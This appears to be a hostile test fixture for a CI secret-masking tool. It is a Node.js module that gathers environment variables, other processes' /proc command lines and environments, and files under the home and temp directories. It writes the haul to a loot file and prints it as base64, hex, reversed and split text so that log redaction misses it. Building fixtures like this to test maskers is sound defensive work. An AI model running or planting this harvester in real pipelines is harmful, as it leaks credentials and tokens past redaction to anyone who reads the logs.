/** Takes all that can be seen, keeps it in HOSTILE_LOOT, and prints it in forms that a masker may not know. */
const { appendFileSync } = require('node:fs');
const { family, filesBelow, read } = require('../surroundings.cjs');

const PRINTED = 20_000;

module.exports = async () => {
  const { HOME, RUNNER_TEMP, TMPDIR } = process.env;
  const files = [HOME, RUNNER_TEMP, TMPDIR].filter(Boolean).flatMap((directory) => filesBelow(directory));
  const seen = [
    ...Object.entries(process.env).map(([name, value]) => `own ${name}=${value}`),
    ...family().flatMap((pid) => [
      `arguments of ${pid}: ${read(`/proc/${pid}/cmdline`)}`,
      ...read(`/proc/${pid}/environ`)
        .split('\0')
        .filter((entry) => entry !== '')
        .map((entry) => `environment of ${pid}: ${entry}`),
    ]),
    ...files.map((path) => `file ${path}: ${read(path)}`),
  ].join('\n');
  appendFileSync(process.env.HOSTILE_LOOT, seen);
  const bytes = Buffer.from(seen.slice(0, PRINTED));
  console.log(bytes.toString('latin1'));
  console.log(bytes.toString('base64'));
  console.log(bytes.toString('hex'));
  console.log([...bytes.toString('latin1')].reverse().join(''));
  console.error([...bytes.toString('latin1').slice(0, 2000)].join('\n'));
};
